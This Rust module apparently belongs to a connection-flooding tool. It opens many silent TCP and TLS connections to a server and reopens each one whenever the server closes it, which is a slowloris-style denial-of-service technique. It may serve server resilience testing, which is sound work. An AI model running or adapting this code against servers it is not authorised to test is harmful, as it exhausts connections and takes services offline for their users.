//! Connections that say nothing. What the server closes is opened again.

use std::sync::Arc;

use tokio::io::{AsyncRead, AsyncReadExt};

use super::{Attack, Open};

/// Half of them before TLS, half of them after the handshake.
pub(super) fn start(attack: &Arc<Attack>, count: usize) {
    for number in 0..count {
        let attack = attack.clone();
        tokio::spawn(async move { attack.forever(|| once(&attack, number % 2 == 0)).await });
    }
}

async fn once(attack: &Attack, speaks_tls: bool) -> anyhow::Result<()> {
    let permit = attack.connecting.acquire().await?;
    let stream = attack.endpoint.tcp(attack.from).await?;
    if !speaks_tls {
        drop(permit);
        wait(attack, stream).await;
        return Ok(());
    }
    let stream = attack.endpoint.tls(stream, b"http/1.1").await?;
    drop(permit);
    wait(attack, stream).await;
    Ok(())
}

/// Until the server closes it.
async fn wait(attack: &Attack, mut stream: impl AsyncRead + Unpin) {
    let _open = Open::new(&attack.counts);
    let mut buffer = [0; 64];
    while !matches!(stream.read(&mut buffer).await, Ok(0) | Err(_)) {}
}
